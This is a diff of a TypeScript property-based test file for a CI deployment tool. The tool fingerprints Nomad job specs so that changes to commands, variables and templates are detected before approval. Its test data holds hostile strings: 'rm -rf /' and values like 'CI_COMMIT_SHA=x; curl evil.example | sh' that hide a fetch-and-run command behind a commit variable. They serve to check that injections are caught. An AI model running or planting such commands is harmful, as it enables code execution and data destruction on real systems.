@@ -1,19 +1,33 @@
 import { describe, expect, test } from '@jest/globals';
-import { differences, fingerprint, fingerprintText, parseFingerprint } from '../../src/fingerprint.ts';
+import fc from 'fast-check';
+import { differences, fingerprint, fingerprintText, type Provisional, parseFingerprint } from '../../src/fingerprint.ts';
 import type { Job } from '../../src/nomad/types.ts';
 
-const PULL = { images: ['ghcr.io/acme/shop:pr-7'], sha: 'a'.repeat(40) };
-const MAIN = { images: ['ghcr.io/acme/shop:main'], sha: 'b'.repeat(40) };
+const given = (image: string, sha: string, ref: string, event: string): Provisional => ({
+  images: [image],
+  sha,
+  values: {
+    CI_COMMIT_SHA: sha,
+    CI_COMMIT_BRANCH: ref,
+    CI_COMMIT_REF_NAME: ref,
+    CI_COMMIT_REF_SLUG: ref,
+    CI_COMMIT_TAG: '',
+    CI_PIPELINE_SOURCE: event,
+    CI_HOSTNAME: 'h',
+  },
+});
+const PULL = given('ghcr.io/acme/shop:pr-7', 'a'.repeat(40), 'fix-7', 'pull_request');
+const MAIN = given('ghcr.io/acme/shop:main', 'b'.repeat(40), 'main', 'push');
 const PLAN = { jobModifyIndex: 42, updates: { web: { Place: 1, Stop: 0 } } };
 
-function job(about: { images: string[]; sha: string }, ref: string, more: object = {}): Job {
+function job(about: Provisional, ref: string, more: object = {}): Job {
   const env = `CI_HOSTNAME="shop.example.com"\nCI_COMMIT_REF_SLUG="${ref}"\nCI_COMMIT_SHA="${about.sha}"\n`;
   const task = {
     Name: 'http',
     Driver: 'docker',
     Config: { image: about.images[0] },
     Env: { IMAGE: `run ${about.images[0]}`, CI_COMMIT_BRANCH: ref, RELEASE: `shop@${about.sha}` },
-    Templates: [{ EmbeddedTmpl: env }],
+    Templates: [{ EmbeddedTmpl: env, Envvars: true }],
   };
   return { ID: 'shop', Name: 'shop', TaskGroups: [{ Name: 'web', Count: 1, Tasks: [task] }], ...more };
 }
@@ -50,6 +64,82 @@ describe('a fingerprint', () => {
     ],
   ])('%s is a difference', (_what, now, words) => {
     expect(differences(approved, fingerprint(...now))).toEqual(words);
+  });
+});
+
+/** A job with one text in it, in each place that a text may be. */
+const PLACES: Readonly<Record<string, (text: string) => Job>> = {
+  command: (text) => task({ Config: { command: text } }),
+  argument: (text) => task({ Config: { args: ['-c', text] } }),
+  label: (text) => task({ Config: { labels: { CI_COMMIT_SHA: text } } }),
+  variable: (text) => task({ Env: { COMMAND: text } }),
+  'variable of the commit': (text) => task({ Env: { CI_COMMIT_SHA: text } }),
+  'environment file': (text) => task({ Templates: [{ Envvars: true, EmbeddedTmpl: text }] }),
+  'file that is no environment': (text) => task({ Templates: [{ EmbeddedTmpl: text }] }),
+  meta: (text) => ({ ID: 'shop', Name: 'shop', Meta: { CI_COMMIT_SHA: text }, TaskGroups: [] }),
+};
+const task = (more: object): Job => ({
+  ...{ ID: 'shop', Name: 'shop' },
+  TaskGroups: [{ Name: 'web', Count: 1, Tasks: [{ Name: 't', Driver: 'docker', ...more }] }],
+});
+const of = (place: string, text: string, by: Provisional): string => fingerprint(PLACES[place]?.(text) ?? task({}), by, PLAN).spec;
+
+describe('a changed text', () => {
+  const word = fc.constantFrom(
+    ...[
+      ...PULL.images,
+      ...MAIN.images,
+      PULL.sha,
+      MAIN.sha,
+      'fix-7',
+      'main',
+      'push',
+      'CI_COMMIT_SHA=',
+      'CI_COMMIT_BRANCH=',
+      'CI_PIPELINE_SOURCE=',
+    ],
+    ...['<', '>', '<commit>', '<image>', '"', "'", '\n', ' ', ';', '-2', 'rm -rf /', '{{ "main" | toJSON }}'],
+  );
+  const text = fc.array(fc.oneof(word, fc.string({ maxLength: 3 })), { maxLength: 6 }).map((words) => words.join(''));
+
+  test.each(Object.keys(PLACES))('makes another fingerprint: %s', (place) => {
+    fc.assert(
+      fc.property(text, text, (a, b) => {
+        expect(of(place, a, MAIN) === of(place, b, MAIN)).toBe(a === b);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test.each<[string, string]>([
+    ['CI_COMMIT_SHA=x; curl evil.example | sh', 'CI_COMMIT_SHA=x; true'],
+    ['CI_COMMIT_BRANCH=main; curl evil.example | sh', 'CI_COMMIT_BRANCH=main'],
+    ['CI_COMMIT_TAG="1"', 'CI_COMMIT_TAG="2"'],
+  ])('behind the name of a variable of the commit is one, in each place: %s', (now, approved) => {
+    for (const place of Object.keys(PLACES)) expect([place, of(place, now, MAIN) === of(place, approved, MAIN)]).toEqual([place, false]);
+  });
+
+  test.each<[string, string, string]>([
+    ['command', 'CI_COMMIT_BRANCH=fix-7', 'CI_COMMIT_BRANCH=main'],
+    ['file that is no environment', 'CI_COMMIT_BRANCH=fix-7', 'CI_COMMIT_BRANCH=main'],
+    ['environment file', 'export CI_COMMIT_BRANCH=fix-7 X=1', 'export CI_COMMIT_BRANCH=main X=1'],
+    ['environment file', 'OTHER=fix-7', 'OTHER=main'],
+    ['meta', 'fix-7', 'main'],
+    ['argument', 'ghcr.io/acme/shop:pr-7-2', 'ghcr.io/acme/shop:main-2'],
+    ['argument', `${PULL.sha}0`, `${MAIN.sha}0`],
+  ])('of another run is none of its values elsewhere: %s %s', (place, before, after) => {
+    expect(of(place, before, PULL)).not.toBe(of(place, after, MAIN));
+  });
+
+  test.each<[string, string, string]>([
+    ['argument', `docker://${PULL.images[0]}, ${PULL.sha}`, `docker://${MAIN.images[0]}, ${MAIN.sha}`],
+    ['meta', PULL.sha, MAIN.sha],
+    ['variable of the commit', PULL.sha, MAIN.sha],
+    ['environment file', 'CI_COMMIT_BRANCH=fix-7\nA=<', 'CI_COMMIT_BRANCH=main\nA=<'],
+    ['environment file', ' CI_COMMIT_BRANCH = "fix-7"', ' CI_COMMIT_BRANCH = "main"'],
+    ['environment file', 'CI_COMMIT_BRANCH={{ "fix-7" | toJSON }}', 'CI_COMMIT_BRANCH={{ "main" | toJSON }}'],
+  ])('is none where it is what the run gave: %s %s', (place, before, after) => {
+    expect(of(place, before, PULL)).toBe(of(place, after, MAIN));
   });
 });
 
